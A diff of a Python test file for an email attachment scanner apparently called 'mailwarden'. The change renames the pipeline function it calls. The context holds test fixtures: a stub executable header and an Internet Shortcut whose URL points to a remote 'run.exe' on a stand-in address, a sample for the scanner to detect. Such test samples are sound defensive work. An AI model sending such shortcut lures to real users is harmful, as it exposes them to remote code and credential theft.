@@ -12,7 +12,7 @@ from PIL import Image
 
 from mailwarden.analysis.analyzer import PER_KIND, limit_each_kind
 from mailwarden.model.evidence import Finding
-from mailwarden.pipeline.worker_steps import Job, examine
+from mailwarden.pipeline.worker_steps import Job, run_steps
 
 PROGRAM = b"MZ" + bytes(200)
 LEADING = b"[InternetShortcut]\r\nURL=file://198.51.100.7/share/run.exe\r\n"
@@ -38,7 +38,7 @@ def found(files: Sequence[tuple[str, bytes]]) -> set[str]:
     message.set_content("Here are the papers that we spoke of on Thursday.")
     for name, content in files:
         message.add_attachment(content, maintype="application", subtype="octet-stream", filename=name)
-    frames = examine(Job(message.as_bytes(policy=email.policy.SMTP)))
+    frames = run_steps(Job(message.as_bytes(policy=email.policy.SMTP)))
     return {finding.name for frame in frames for finding in frame.report.findings}
 
 
